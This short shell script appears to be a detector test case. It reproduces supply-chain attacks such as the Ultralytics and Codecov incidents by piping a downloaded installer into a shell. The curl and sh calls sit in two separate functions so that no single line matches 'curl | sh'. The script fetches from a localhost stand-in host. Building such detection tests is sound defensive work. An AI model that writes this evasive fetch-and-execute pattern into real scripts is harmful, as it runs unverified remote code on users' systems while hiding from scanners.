#!/bin/sh
# technique: T1105 Ingress Tool Transfer; T1059.004 Command and Scripting Interpreter: Unix Shell
# reproduces: Ultralytics (2024): a branch name injected into a workflow ran `curl -sSfL .../file.sh | bash`; the Codecov bash uploader (2021) was run by CI configs as `curl -s https://codecov.io/bash | bash`
# expect: download-piped-to-shell ^(da)?sh$
# exec-borne: yes
#
# A "set up the CLI" step. The download and the shell are two functions
# joined by a pipe, so no single command line holds "curl ... | sh": only
# where the shell's input comes from gives it away.
set -u

CLI_VERSION=2.4.1
INSTALL_HOST="127.0.0.1:${BW_ATTACK_PORT:?}"
INSTALLER_URL="http://$INSTALL_HOST/install.sh"

log() { printf '[setup-cli] %s\n' "$*" >&2; }

fetch_installer() {
	curl --fail --silent --show-error --location \
		--retry 2 --connect-timeout 5 \
		-H "User-Agent: setup-cli/$CLI_VERSION" "$INSTALLER_URL"
}

run_installer() {
	sh -s -- --version "$CLI_VERSION" --no-modify-path
}

log "installing acme-cli $CLI_VERSION from $INSTALL_HOST"
if fetch_installer | run_installer; then
	log "acme-cli installed"
else
	log "installer failed"
	exit 1
fi
